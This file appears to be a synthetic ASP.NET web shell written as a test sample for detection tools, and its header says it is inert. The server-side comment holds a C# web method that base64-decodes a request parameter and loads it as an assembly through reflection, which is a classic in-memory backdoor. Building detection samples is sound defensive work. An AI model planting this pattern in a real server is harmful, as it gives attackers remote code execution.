<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ WebService Language="C#" Class="S"%>
public class S : WebService { [WebMethod] public string X(string d) { byte[] b = Convert.FromBase64String(d); var a = (Assembly)typeof(Assembly).GetMethod("Load", new Type[] { typeof(byte[]) }).Invoke(null, new object[] { b }); return ""; } }
--%>
